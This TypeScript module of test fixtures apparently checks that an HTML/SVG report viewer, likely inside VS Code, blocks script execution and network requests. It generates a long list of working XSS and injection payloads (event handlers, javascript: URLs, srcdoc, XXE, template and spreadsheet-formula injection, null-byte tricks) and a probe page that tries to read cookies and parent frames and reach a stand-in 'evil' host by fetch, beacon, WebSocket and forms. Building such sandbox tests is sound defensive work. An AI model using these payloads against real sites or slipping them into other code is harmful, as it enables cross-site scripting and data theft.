/** What each carrier runs, if it runs: said on the console, left in its window, and told to a server that must not be reached. */
const run = (evil: string): string =>
  `console.log('EXECUTED');globalThis.wasExecuted=1;fetch('${evil}/fetch')`;

/** HTML in which scripts, or requests to a server, hide; every one is a file of its own. */
export function htmlCarriers(evil: string): readonly string[] {
  const js = run(evil);
  const encoded = [...js].map((each) => `&#${each.charCodeAt(0)};`).join('');
  const base64 = Buffer.from(`<script>${js}</script>`).toString('base64');
  return [
    `<script>${js}</script>`,
    `<script src="${evil}/a.js"></script>`,
    `<script type="module">${js}</script>`,
    `<script type="module" src="${evil}/m.js"></script>`,
    `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`,
    `<script async defer nonce="guess">${js}</script>`,
    `<SCRIPT/x>${js}</SCRIPT>`,
    `<img src=x onerror="${js}">`,
    `<img src="${evil}/image.png">`,
    `<img srcset="${evil}/srcset.png 2x">`,
    `<picture><source srcset="${evil}/source.webp"><img src="data:,x"></picture>`,
    `<svg onload="${js}"></svg>`,
    `<svg><script>${js}</script></svg>`,
    `<svg><image href="${evil}/svg.png"/><use href="${evil}/use.svg#a"/></svg>`,
    `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/></svg>`,
    `<svg><a xlink:href="javascript:${js}"><text x="20" y="20">click</text></a></svg>`,
    `<svg><foreignObject><body onload="${js}"/></foreignObject></svg>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${js}">click</maction></math>`,
    `<body onload="${js}">`,
    `<body onpageshow="${js}" onfocus="${js}" onresize="${js}">`,
    `<iframe src="javascript:${js}"></iframe>`,
    `<iframe src="${evil}/frame"></iframe>`,
    `<iframe srcdoc="<script>${js}</script>"></iframe>`,
    `<iframe srcdoc="<img src='${evil}/nested.png'>"></iframe>`,
    `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>${js}</script>"></iframe>`,
    `<object data="${evil}/object"></object>`,
    `<object data="data:text/html;base64,${base64}"></object>`,
    `<embed src="${evil}/embed.swf"><embed src="data:text/html;base64,${base64}">`,
    `<frameset><frame src="javascript:${js}"></frameset>`,
    `<a href="javascript:${js}" style="position:fixed;inset:0">click</a>`,
    `<a href="${evil}/link" style="position:fixed;inset:0">click</a>`,
    `<a href="${evil}/ping" ping="${evil}/pinged" target="_blank" style="position:fixed;inset:0">x</a>`,
    `<a href="data:text/html;base64,${base64}" target="_top" style="position:fixed;inset:0">x</a>`,
    `<area href="javascript:${js}"><map><area href="${evil}/area"></map>`,
    `<form action="${evil}/form"><button style="position:fixed;inset:0">click</button></form>`,
    `<form action="javascript:${js}"><input autofocus onfocus="${js}" style="position:fixed;inset:0"></form>`,
    `<button formaction="javascript:${js}" onclick="${js}" style="position:fixed;inset:0">x</button>`,
    `<details open ontoggle="${js}"><summary>x</summary></details>`,
    `<video onerror="${js}"><source src="${evil}/video.mp4"></video>`,
    `<audio src="${evil}/audio.mp3" autoplay onerror="${js}"></audio>`,
    `<input type="image" src="${evil}/input.png" onerror="${js}">`,
    `<marquee onstart="${js}">x</marquee>`,
    `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><script>${js}</script>`,
    `<base href="${evil}/"><img src="relative.png"><script src="relative.js"></script>`,
    `<link rel="stylesheet" href="${evil}/style.css">`,
    `<link rel="preload" as="script" href="${evil}/preload.js"><link rel="prefetch" href="${evil}/prefetch">`,
    `<link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="${evil}">`,
    `<link rel="icon" href="${evil}/icon.ico"><link rel="manifest" href="${evil}/manifest.json">`,
    `<link rel="modulepreload" href="${evil}/modulepreload.js">`,
    `<style>@import url("${evil}/import.css"); body { background: url("${evil}/background.png") }</style>`,
    `<style>@font-face { font-family: x; src: url("${evil}/font.woff") } body { font-family: x }</style>x`,
    `<div style="background-image: url('${evil}/inline.png')">x</div>`,
    `<div style="animation: x 1s" onanimationstart="${js}"><style>@keyframes x {}</style></div>`,
    `<noscript><p title="</noscript><script>${js}</script>">x</p></noscript>`,
    `<template shadowrootmode="open"><script>${js}</script><img src="${evil}/shadow.png"></template>`,
    `<div><template shadowrootmode="open"><img src=x onerror="${js}"></template></div>`,
    `<!--><script>${js}</script>-->`,
    `<![CDATA[<script>${js}</script>]]>`,
    `<xmp><script>${js}</script></xmp><title></title><script>${js}</script>`,
    `<img src="x" onerror="${encoded}">`,
    `<table background="${evil}/table.png"><tr><td background="${evil}/cell.png">x</table>`,
    `<video poster="${evil}/poster.png"><track src="${evil}/track.vtt" default></video>`,
    `<portal src="${evil}/portal"></portal><fencedframe src="${evil}/fenced"></fencedframe>`,
    `<script type="speculationrules">{"prefetch":[{"urls":["${evil}/speculated"]}]}</script>`,
    `<script type="importmap">{"imports":{"x":"${evil}/mapped.js"}}</script><script type="module">import "x"</script>`,
    `</iframe></main><script>${js}</script>`,
    `\u0000<scr\u0000ipt>${js}</script>`,
  ];
}

/** SVG in which scripts or requests hide. */
export function svgCarriers(evil: string): readonly string[] {
  const js = run(evil);
  const svg = (inner: string, attributes = ''): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" ${attributes}>${inner}</svg>`;
  return [
    svg(`<script>${js}</script>`),
    svg('', `onload="${js}"`),
    svg(`<image href="${evil}/image.png" width="40" height="40"/>`),
    svg(
      `<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/frame"/></foreignObject>`,
    ),
    svg(
      `<style>@import url("${evil}/style.css"); rect { fill: url("${evil}/fill#a") }</style><rect width="9" height="9"/>`,
    ),
    svg(`<script href="${evil}/script.js"/>`),
    svg(`<use href="${evil}/use.svg#a"/>`),
    `<?xml-stylesheet href="${evil}/sheet.css"?>${svg('')}`,
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "${evil}/entity">]>${svg('<text>&x;</text>')}`,
  ];
}

/** Texts that would run if any page took them for HTML, an address or a template. */
export function textCarriers(evil: string): readonly string[] {
  const js = run(evil);
  return [
    `<img src=x onerror="${js}">`,
    `</script><script>${js}</script>`,
    `<iframe srcdoc="<script>${js}</script>"></iframe>`,
    `"><svg onload="${js}">`,
    `javascript:${js}`,
    `[x](javascript:${js})`,
    `![x](${evil}/markdown.png)`,
    '${alert(1)} {{constructor.constructor("alert(1)")()}}',
    `=HYPERLINK("${evil}/cell")`,
    `<link rel=stylesheet href=${evil}/text.css>`,
  ];
}

/** A report that tries all it can think of to reach the page or the network; it says on the console what came of it. */
export function reachingOut(evil: string): string {
  return `<!doctype html><h1 id="chart">empty</h1><script>
document.getElementById('chart').textContent = 'drawn by a script';
const came = {};
const attempt = (name, work) => {
  try { came[name] = String(work()); } catch (error) { came[name] = 'refused'; }
};
attempt('parent', () => parent.document.title);
attempt('top', () => top.document.title);
attempt('api', () => typeof parent.acquireVsCodeApi);
attempt('ownApi', () => typeof acquireVsCodeApi);
attempt('storage', () => localStorage.length);
attempt('cookie', () => document.cookie);
attempt('open', () => window.open('${evil}/open'));
attempt('topLocation', () => { top.location = '${evil}/top'; return 'set'; });
fetch('${evil}/fetch').catch(() => 0);
attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${evil}/xhr'); x.send(); return 'sent'; });
attempt('beacon', () => navigator.sendBeacon('${evil}/beacon', 'x'));
attempt('socket', () => new WebSocket('${evil.replace('http', 'ws')}/socket'));
attempt('events', () => new EventSource('${evil}/events'));
attempt('image', () => { new Image().src = '${evil}/image'; return 'set'; });
attempt('worker', () => new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/worker');importScripts('${evil}/worker.js')"]))));
import('${evil}/import.js').catch(() => 0);
const add = (html) => { const d = document.createElement('div'); d.innerHTML = html; document.body.append(d); };
add('<iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">');
add('<link rel=stylesheet href="${evil}/style.css"><link rel=prefetch href="${evil}/prefetch">');
add('<form id=f action="${evil}/form"></form>');
attempt('form', () => { document.getElementById('f').submit(); return 'sent'; });
for (let n = 0; n < 3; n++) parent.postMessage({ reportLink: '${evil}/unclicked' }, '*');
parent.postMessage({ report: 'toggle' }, '*');
parent.postMessage({ report: 'content', bytes: new Uint8Array([60]) }, '*');
console.log('CAME ' + JSON.stringify(came));
</script><a id="out" href="https://docs.example/page">docs</a> <a id="in" href="#chart">up</a>`;
}
